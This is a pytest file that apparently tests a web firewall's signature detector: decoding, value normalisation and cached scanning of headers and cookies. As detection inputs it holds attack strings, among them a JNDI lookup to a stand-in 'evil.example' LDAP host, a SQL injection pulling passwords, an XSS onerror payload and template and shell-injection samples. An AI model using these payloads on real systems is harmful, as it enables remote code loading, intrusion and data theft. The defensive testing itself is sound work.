"""The inspection's shortcuts give the answers of the long way: the plain-value test, query decoding,
the HTML-entity pre-check, JSON path marking, the kept scan results of recurring header lines and
cookies, and the answers confirm steps, `names` checks and credential checks keep."""

from __future__ import annotations

import re
from urllib.parse import unquote_plus

import pytest

from bastion.detect.signatures.confirm import load_confirms, remembered
from bastion.detect.signatures.detector import SignaturesDetector
from bastion.detect.signatures.settings import SignaturesConfig
from bastion.detect.signatures.transforms import VIEWS, decode
from bastion.detect.signatures.zones import Value, ZoneOptions, form_unquote, request_body_values
from bastion.testing import make_exchange

# The definition the plain test replaces (one alternation regex per value).
_TRANSFORMABLE = re.compile(r"[%&\\\x00'\"$^]|/[*.]|(?<!:)//|\*/|[^\x00-\x7f]|\s{16}")

TRICKY = [
    "", "a", "abc123", "GA1.2.575398923.1700000000", "sean.obrien+shop@example.com", "/api/v1/orders",
    "https://cdn.example.com/u/1.png", "http://a//b", "//evil", ":///x", "a/./b", "a/.b", "/*x", "x*/",
    "x*y", "a" + " " * 15 + "b", "a" + " " * 16 + "b", "a\t" + "\t" * 15, "a\nb", "\u2000" * 16, "x\u00a0y",
    "Zoë", "\uff53\uff45\uff4c\uff45\uff43\uff54", "O'Brien", 'say "hi"', "c^md", "$HOME", "50%", "a&b",
    "a\\b", "nul\x00",
    "id,name,price", "-created_at", "`ls -la`", "{{7*7}}", "[x](y)", "a;b|c", "~user", "#frag", "=?@<>",
]


@pytest.mark.parametrize("raw", TRICKY)
def test_a_value_is_plain_exactly_when_no_view_can_differ(raw: str) -> None:
    v = Value("args", "query", "q", raw)
    assert v.plain == (_TRANSFORMABLE.search(raw) is None)
    if v.plain:
        assert all(VIEWS[name][1](raw) == raw for name in ("decode", "sql", "cmd", "jndi"))


@pytest.mark.parametrize(
    "raw",
    ["a+b", "a%20b", "Zo%C3%AB", "%ZZ%4", "%c0%ae", "100%", "Zoë+%C3%AB", "x%uD800y", "%E2%82", "\udce9%41", "+%2B+"],
)
def test_query_values_decode_as_urllib_does(raw: str) -> None:
    assert form_unquote(raw) == unquote_plus(raw, errors="surrogateescape")


@pytest.mark.parametrize(
    ("raw", "decoded"),
    [
        ("a&lt;b", "a<b"), ("a&ltb", "a<b"), ("&#60;script&#x3e;", "<script>"), ("x&amp;y", "x&y"),
        ("https://x/?version=2&lang=en", "https://x/?version=2&lang=en"), ("fast & cheap", "fast & cheap"),
        ("&copy 2024", "\u00a9 2024"), ("&zzz; &not", "&zzz; \u00ac"), ("&colon;", ":"),
    ],
)
def test_html_entities_are_decoded_only_where_there_are_some(raw: str, decoded: str) -> None:
    assert decode(raw) == decoded


def test_json_paths_under_a_suspicious_key_stay_inspected() -> None:
    ex = make_exchange("POST", "/x", headers=[("Content-Type", "application/json")],
                       body=b'{"a": {"__proto__": {"b": "c", "d": [{"e": 1}]}}, "f$": {"g": "h"}, "ok": {"i": "j"}}')
    names = [v.raw for v in request_body_values(ex.request, ZoneOptions()) if v.zone == "arg_names"]
    assert sorted(names) == ["a.__proto__", "a.__proto__.b", "a.__proto__.d", "a.__proto__.d.e", "f$", "f$.g"]


def test_a_recurring_header_line_is_matched_on_every_request() -> None:
    det = SignaturesDetector(SignaturesConfig())
    headers = [("Host", "api.example.com"), ("User-Agent", "${jndi:ldap://evil.example/a}"), ("X-Note", "hello")]
    found = []
    for i in range(3):  # the second and third requests reuse what the first one's scan found
        ex = make_exchange("GET", f"/p?i={i}", headers=headers, host=None)
        det.request_headers(ex)
        found.append(sorted(f.rule_id for f in ex.findings if f.name == "user-agent"))
    assert found[0] and found[0] == found[1] == found[2]
    clean = make_exchange("GET", "/p", headers=[("Host", "api.example.com"), ("X-Note", "hello")], host=None)
    det.request_headers(clean)
    assert clean.findings == []


def test_a_recurring_cookie_is_matched_on_every_request_and_by_its_own_zone() -> None:
    det = SignaturesDetector(SignaturesConfig())
    payload = "1' UNION SELECT password FROM users--"
    found = []
    for i in range(3):  # the second and third requests reuse the first one's Values and scan results
        ex = make_exchange("GET", f"/p?i={i}", headers=[("Cookie", f"pref={payload}; _ga=GA1.2.{i}")], host=None)
        det.request_headers(ex)
        found.append(sorted((f.rule_id, f.zone, f.name) for f in ex.findings))
    assert found[0] and found[0] == found[1] == found[2]
    assert all(zone == "cookie" for _, zone, _ in found[0])
    # The same text in a header afterwards: scanned and judged as a header value, not as the cookie was.
    fresh = SignaturesDetector(SignaturesConfig())
    alone = make_exchange("GET", "/p", headers=[("X-Note", payload)], host=None)
    fresh.request_headers(alone)
    ex = make_exchange("GET", "/p", headers=[("X-Note", payload)], host=None)
    det.request_headers(ex)
    assert sorted(f.rule_id for f in ex.findings) == sorted(f.rule_id for f in alone.findings)


def test_confirm_steps_answer_from_memory_as_they_would_afresh() -> None:
    texts = ["1' or '1'='1", "O'Brien", "<img src=x onerror=alert(1)>", "http://127.0.0.1/", "plain words"]
    for name, step in load_confirms().items():
        again = [step(t) for t in texts]
        assert [step(t) for t in texts] == again, name
    calls: list[str] = []

    def failing(text: str) -> str | None:
        calls.append(text)
        raise ValueError(text)

    step = remembered(failing)
    for _ in range(2):
        with pytest.raises(ValueError):
            step("x")
    assert calls == ["x", "x"]  # a step that raised is asked again, not answered from memory


def test_credentials_are_judged_the_same_on_every_request() -> None:
    det = SignaturesDetector(SignaturesConfig())
    for value, flagged in [("Bearer " + "a" * 300, False), ("Bearer ${jndi:ldap://x.example/a}", True)]:
        for _ in range(2):
            ex = make_exchange("GET", "/p", headers=[("Authorization", value)], host=None)
            det.request_headers(ex)
            assert any(f.name == "authorization" for f in ex.findings) == flagged, value
